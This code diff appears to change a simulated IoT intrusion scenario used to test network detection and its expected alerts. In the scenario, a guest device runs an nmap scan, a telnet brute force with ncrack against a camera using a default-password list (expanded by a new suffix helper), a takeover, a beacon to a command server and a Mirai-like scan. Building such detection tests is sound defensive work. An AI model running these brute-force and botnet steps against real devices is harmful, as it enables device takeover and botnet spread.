@@ -22,6 +22,12 @@ WORDS = ("123456", "12345", "password", "root", "1234", "camera", "888888", "def
 MQTT = {name: f"{name}-secret" for name in FAMILY}
 
 
+def longer(words, times):
+    """As many words again with an ending or two, the right one (the last) still last."""
+    endings = ("", "1", "2026", "!", "123", "01")[:times]
+    return (*(f"{word}{ending}" for ending in endings for word in words[:-1]), words[-1])
+
+
 def build(net):
     for name, (host, mac) in FAMILY.items():
         net.device(name, host, mac, users={"admin": "admin"} if name.startswith("camera") else None)
@@ -94,14 +100,15 @@ def clean(net, capture, minutes=12):
         Alert("network-scan", "192.168.50.22"),
         Alert("botnet-propagation", "192.168.50.22"),
         Alert("arp-spoofing", "192.168.50.66", ("192.168.50.51", "192.168.50.1")),
-        Alert("exfiltration", "192.168.50.22", ("198.51.100.99",)),
+        Alert("anomaly", "192.168.50.22", ("198.51.100.99",)),
     ),
+    tolerated=(Alert("exfiltration", "192.168.50.22", ("198.51.100.99",)),),
     never=("192.168.50.10", "192.168.50.31", "192.168.50.33"),
     claims=(
         Claim("ports of the camera that the guest tries", "ip.src==192.168.50.66 && ip.dst==192.168.50.22 && tcp.flags==0x2", 990, None,
               "tcp.dstport"),
         Claim("telnet connections of the guest to the camera",
-              "ip.src==192.168.50.66 && ip.dst==192.168.50.22 && tcp.dstport==23 && tcp.flags==0x2", 10),
+              "ip.src==192.168.50.66 && ip.dst==192.168.50.22 && tcp.dstport==23 && tcp.flags==0x2", 25),
         Claim("requests of the camera to 203.0.113.66", "ip.src==192.168.50.22 && ip.dst==203.0.113.66 && tcp.flags==0x2", 40, 60),
         Claim("addresses whose telnet port the camera tries (those that exist, and those outside)",
               "ip.src==192.168.50.22 && tcp.flags==0x2 && (tcp.dstport==23 || tcp.dstport==2323)", 120, None, "ip.dst"),
@@ -140,12 +147,12 @@ def intrusion(net, home):
     net.attack("guest", "nmap", "-n", "-Pn", "-sS", "-T4", yard)
     wait_until(60)
     words = net.state / "words"
-    words.write_text("\n".join(WORDS) + "\n")
-    net.attack("guest", "ncrack", "--user", "admin", "-P", words, f"telnet://{yard}", timeout=85)
-    wait_until(150)
+    words.write_text("\n".join(longer(WORDS, 3)) + "\n")
+    net.attack("guest", "ncrack", "--user", "admin", "-P", words, f"telnet://{yard}", timeout=140)
+    wait_until(205)
     in_device(net, "guest", lambda: take_over(net, yard))
     threading.Thread(target=beacon, args=(net, home, "camera-yard", f"http://{COMMAND_SERVER}:80/gate", 10, 0.1), daemon=True).start()
-    wait_until(205)
+    wait_until(245)
     targets = [f"{net.lan}.{n}" for n in range(1, 255) if f"{net.lan}.{n}" != yard] + [f"203.0.113.{n}" for n in range(130, 250)]
     random.Random("first-look").shuffle(targets)
     net.show("camera-yard", f"(Mirai-like scan of {len(targets)} addresses, 12 a second, then logins: recording/mirai.py)")
